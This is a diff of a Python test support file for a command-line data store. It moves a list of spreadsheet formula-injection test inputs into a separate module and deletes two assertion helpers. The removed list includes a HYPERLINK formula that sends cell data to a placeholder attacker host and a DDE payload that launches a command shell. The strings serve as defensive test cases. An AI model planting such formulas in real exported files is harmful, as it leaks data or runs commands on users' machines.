@@ -4,18 +4,16 @@ nothing written where it should not be, and no traceback."""
 
 from __future__ import annotations
 
-import hashlib
 import sys
 from pathlib import Path
 
 import pytest
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "store"))
+sys.path.insert(0, str(Path(__file__).resolve().parent))
 
+from hostile_corpus import FORMULAS  # noqa: E402
 from store_fakes import FakePipeline  # noqa: E402
-
-#: Titles and outlets a spreadsheet would run as formulas.
-FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")
 
 
 @pytest.fixture(scope="module")
@@ -50,20 +48,3 @@ def cli():
         return runner.invoke(app, [str(a) for a in args])
 
     return run
-
-
-def one_line_error(result, *needles: str) -> str:
-    """Assert a CLI result is one error line (exit 1, no traceback) containing ``needles``."""
-    assert result.exit_code == 1, (result.exit_code, result.stdout, result.stderr, result.exception)
-    assert result.exception is None or isinstance(result.exception, SystemExit)
-    message = result.stderr.strip()
-    assert "Traceback" not in result.stderr + result.stdout
-    assert message.startswith("error:") and "\n" not in message, message
-    for needle in needles:
-        assert needle in message, message
-    return message
-
-
-def snapshot(folder: Path) -> dict[str, str]:
-    """Every file under ``folder`` with a hash of its bytes (to show nothing was written)."""
-    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}
